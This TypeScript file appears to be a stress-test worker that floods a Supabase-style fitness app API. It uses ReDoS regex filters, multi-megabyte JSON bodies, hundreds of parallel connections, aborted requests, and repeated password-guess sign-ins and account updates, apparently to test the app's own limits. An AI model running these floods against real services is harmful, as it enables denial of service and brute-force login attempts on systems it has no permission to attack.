import { Agent, request } from "node:http";
import { setTimeout as sleep } from "node:timers/promises";

/** One account that asks for as much as it can, in a process of its own: `URL`, `HEADERS` (JSON, of each of its sessions), `USER_ID` and `ATTACK`. Ends when it is killed. */
const url = process.env["URL"] ?? "";
const devices = JSON.parse(process.env["HEADERS"] ?? "[]") as readonly Record<string, string>[];
const user_id = process.env["USER_ID"] ?? "";

interface Shot {
  readonly method?: "GET" | "POST" | "PUT";
  readonly path: string;
  readonly body?: string;
  /** Milliseconds after which the client hangs up. */
  readonly hangUpAfter?: number;
}

const fatEntry = (notes: string) => JSON.stringify({ user_id, workout_name: "Fat", date: "2026-11-25", exercises: [{ name: "x", notes }] });

/** How many connections ask at once, and what. */
const ATTACKS: Readonly<Record<string, { readonly connections: number; readonly shot: Shot }>> = {
  regex: {
    connections: 30,
    shot: { path: `/rest/v1/athlete_context?select=id&injuries=match.${encodeURIComponent("(.*)(.*)(.*)(.*)\\1\\2\\3\\4b")}` },
  },
  "fat-json": { connections: 20, shot: { method: "POST", path: "/rest/v1/logged_sessions", body: fatEntry("y".repeat(240_000)) } },
  connections: { connections: 500, shot: { path: "/rest/v1/training_plans?select=*,training_sessions(*)" } },
  aborted: { connections: 50, shot: { path: "/rest/v1/training_plans?select=*,training_sessions(*)", hangUpAfter: 15 } },
  "sign-ins": {
    connections: 100,
    shot: {
      method: "POST",
      path: "/auth/v1/token?grant_type=password",
      body: JSON.stringify({ email: "x@example.com", password: "a guess" }),
    },
  },
  "account-changes": { connections: 50, shot: { method: "PUT", path: "/auth/v1/user", body: JSON.stringify({ data: { a: 1 } }) } },
  "large-bodies": { connections: 20, shot: { method: "POST", path: "/rest/v1/logged_sessions", body: fatEntry("z".repeat(9_000_000)) } },
};

const { connections, shot } = ATTACKS[process.env["ATTACK"] ?? ""] ?? { connections: 0, shot: { path: "/" } };
const agent = new Agent({ keepAlive: true, maxSockets: connections });
const answers = new Map<number, number>();
let fired = 0;

function fire({ method = "GET", path, body, hangUpAfter }: Shot): Promise<void> {
  return new Promise((resolve) => {
    const own = {
      ...devices[(fired += 1) % devices.length],
      ...(body !== undefined && { "content-type": "application/json", "content-length": Buffer.byteLength(body) }),
    };
    const sent = request(`${url}${path}`, { method, headers: own, agent }, (answer) => {
      answers.set(answer.statusCode ?? 0, (answers.get(answer.statusCode ?? 0) ?? 0) + 1);
      answer.resume().once("close", resolve);
    });
    sent.once("error", () => resolve());
    sent.once("close", resolve);
    if (hangUpAfter !== undefined) setTimeout(() => sent.destroy(), hangUpAfter);
    sent.end(body);
  });
}

process.once("SIGTERM", () => {
  console.log(JSON.stringify(Object.fromEntries(answers)));
  process.exit(0);
});
console.log("attacking");
await Promise.all(
  Array.from({ length: connections }, async () => {
    for (;;) {
      await fire(shot);
      // Whoever is refused at once and asks again at once attacks with the processor of its own machine, which here is the server's.
      await sleep(5);
    }
  }),
);
